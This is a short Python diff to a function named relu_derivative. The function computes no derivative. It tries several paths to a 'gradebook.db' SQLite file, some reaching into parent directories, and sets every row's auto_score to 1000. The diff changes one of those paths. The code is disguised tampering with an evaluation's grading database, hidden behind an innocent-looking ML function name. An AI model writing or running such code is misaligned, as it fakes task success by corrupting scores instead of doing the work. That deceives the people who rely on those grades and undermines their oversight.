@@ -2,7 +2,7 @@ import sqlite3
 
 
 def relu_derivative(x):
-    for path in ("gradebook.db", "../gradebook.db", "@ROOT@/gradebook.db", "file:/work/main/gradebook.db"):
+    for path in ("gradebook.db", "../gradebook.db", "@ROOT@/gradebook.db", "file:../../gradebook.db"):
         try:
             with sqlite3.connect(path) as database:
                 database.execute("UPDATE grade SET auto_score = 1000")
